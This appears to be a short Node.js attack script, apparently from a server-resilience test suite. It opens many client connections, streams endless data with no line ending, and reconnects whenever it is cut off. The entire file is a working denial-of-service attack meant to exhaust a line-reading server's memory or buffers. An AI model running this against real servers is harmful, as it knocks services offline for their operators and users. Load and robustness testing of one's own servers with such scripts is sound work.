// COUNT clients send a line without an end; who is disconnected comes again.
const { begun, count, open, writeForEver } = require('./attack.cjs');
const endless = Buffer.alloc(65536, 'x');

function next() {
  const socket = open().resume();
  socket.once('connect', () => writeForEver(socket, endless));
  socket.once('close', () => setImmediate(next));
}

for (let i = 0; i < count; i++) next();
begun();
